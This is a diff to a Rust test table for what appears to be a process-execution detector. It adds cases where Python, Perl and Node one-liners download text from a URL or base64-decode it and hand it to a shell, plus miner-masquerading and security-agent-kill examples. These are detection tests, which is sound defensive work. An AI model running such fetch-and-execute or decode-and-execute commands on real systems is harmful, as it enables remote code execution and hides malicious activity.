@@ -372,7 +372,8 @@ fn exec_table() -> Vec<Case> {
         user(vec!["/usr/bin/grep", "-r", "stratum+tcpx", "."], vec![]),
         user(
             vec!["/tmp/syslogd", "--donate-level=1", "-a", "rx/0"],
-            vec!["miner-cli-options", TMP],
+            // A system daemon's name, run from /tmp.
+            vec!["miner-cli-options", TMP, "behaviour-masquerading"],
         ),
         case(
             "nginx",
@@ -981,6 +982,36 @@ fn exec_table() -> Vec<Case> {
             ],
             vec![],
         ),
+        // The fetched text handed to a shell.
+        user(
+            vec![
+                "python3",
+                "-c",
+                "import urllib.request,subprocess;subprocess.run(['sh','-c',urllib.request.urlopen('http://127.0.0.1:8765/x.sh').read().decode()])",
+            ],
+            vec!["exec-interpreter-downloaded-program"],
+        ),
+        user(
+            vec![
+                "python3",
+                "-c",
+                "import os,urllib.request;os.system(urllib.request.urlopen('http://h/x').read().decode())",
+            ],
+            vec!["exec-interpreter-downloaded-program"],
+        ),
+        user(
+            vec!["perl", "-MLWP::Simple", "-e", "system(get('http://h/p'))"],
+            vec!["exec-interpreter-downloaded-program"],
+        ),
+        // A shell command given a fetched value as data, not as its program: nothing.
+        user(
+            vec![
+                "python3",
+                "-c",
+                "import os,urllib.request;v=urllib.request.urlopen('http://h/v').read();os.system('logger ok')",
+            ],
+            vec![],
+        ),
         // Cloud host agents removed (Alibaba's Aegis, Tencent's YunJing), as miner scripts do.
         user(
             vec!["pkill", "-f", "AliYunDun"],
@@ -1285,6 +1316,48 @@ fn exec_table() -> Vec<Case> {
                 "python3",
                 "-c",
                 "import base64;print(base64.b64decode('aGk='))",
+            ],
+            vec![],
+        ),
+        // The decoded text handed to a shell.
+        user(
+            vec![
+                "python3",
+                "-c",
+                "import base64,os;os.system(base64.b64decode('aWQ=').decode())",
+            ],
+            vec!["exec-interpreter-decoded-program"],
+        ),
+        user(
+            vec![
+                "perl",
+                "-MMIME::Base64",
+                "-e",
+                "system(decode_base64('aWQ='))",
+            ],
+            vec!["exec-interpreter-decoded-program"],
+        ),
+        user(
+            vec![
+                "node",
+                "-e",
+                "require('child_process').execSync(Buffer.from('aWQ=','base64').toString())",
+            ],
+            vec!["exec-interpreter-decoded-program"],
+        ),
+        user(
+            vec![
+                "python3",
+                "-c",
+                "import subprocess,base64;subprocess.run(['sh','-c',base64.b64decode('aWQ=')])",
+            ],
+            vec!["exec-interpreter-decoded-program"],
+        ),
+        user(
+            vec![
+                "python3",
+                "-c",
+                "import base64,os;os.system('id');print(base64.b64decode('aGk='))",
             ],
             vec![],
         ),
